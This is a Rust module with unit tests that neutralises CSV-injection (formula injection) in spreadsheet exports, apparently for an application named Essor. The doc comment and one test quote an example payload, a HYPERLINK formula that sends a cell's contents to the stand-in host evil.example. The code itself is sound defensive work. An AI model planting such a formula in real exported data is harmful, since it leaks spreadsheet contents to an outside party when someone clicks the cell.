//! Text in a spreadsheet cell. Excel, LibreOffice and Google Sheets run a CSV cell as a formula
//! when its text starts with `=`, `+`, `-` or `@`, or with a tab or a carriage return (OWASP,
//! "CSV injection"): `=HYPERLINK("http://evil.example/?x="&A1,"clic")` as an organisation's name
//! would send the sheet's cells away when a finance officer clicks it.
//!
//! Essor refuses such a text at input where it reaches a CSV file ([`super::checks::check_cell_line`]),
//! so what it writes is what was entered; [`neutralise`] protects the texts stored before.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula when the cell's text starts
/// with one of them (after any white space: some spreadsheets trim cells as they read them).
pub const FORMULA_PREFIXES: [char; 4] = ['=', '+', '-', '@'];

/// Whether a spreadsheet opening a CSV file would run this text as a formula: it starts with a
/// tab or a carriage return, or its first character that is not white space is one of
/// [`FORMULA_PREFIXES`].
pub fn reads_as_formula(text: &str) -> bool {
    text.starts_with(['\t', '\r']) || text.trim_start().starts_with(FORMULA_PREFIXES)
}

/// A text as a CSV cell that no spreadsheet runs: prefixed with a single quote, as OWASP
/// recommends, when it [`reads_as_formula`]; unchanged otherwise (every text Essor accepts
/// today). Only for text: a number, a date or an amount that Essor formats itself (`-5`,
/// `2026-03-12`) is not a formula and is written as it is.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if reads_as_formula(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_looking_texts_get_a_leading_quote() {
        let hyperlink = r#"=HYPERLINK("http://evil.example/?x="&A1,"clic")"#;
        assert_eq!(neutralise(hyperlink), format!("'{hyperlink}"));
        for text in
            ["=1+2", "+33 6 12 34 56 78", "-2", "@SUM(A1)", "\t=1", "\tx", "\rx", "  =1", "\u{a0}@x", "\n-1"]
        {
            assert!(reads_as_formula(text), "{text:?}");
            assert_eq!(neutralise(text), format!("'{text}"), "{text:?}");
        }
    }

    #[test]
    fn other_texts_are_written_as_they_are() {
        for text in [
            "",
            "Les Ateliers Solidaires",
            "3F Habitat",
            "A=B",
            "DEL-2026-114",
            "2e tranche - travaux",
            "'=1+2",
            "\u{ff1d}1",
            "\nx",
        ] {
            assert!(!reads_as_formula(text), "{text:?}");
            assert!(matches!(neutralise(text), Cow::Borrowed(t) if t == text), "{text:?}");
        }
    }
}
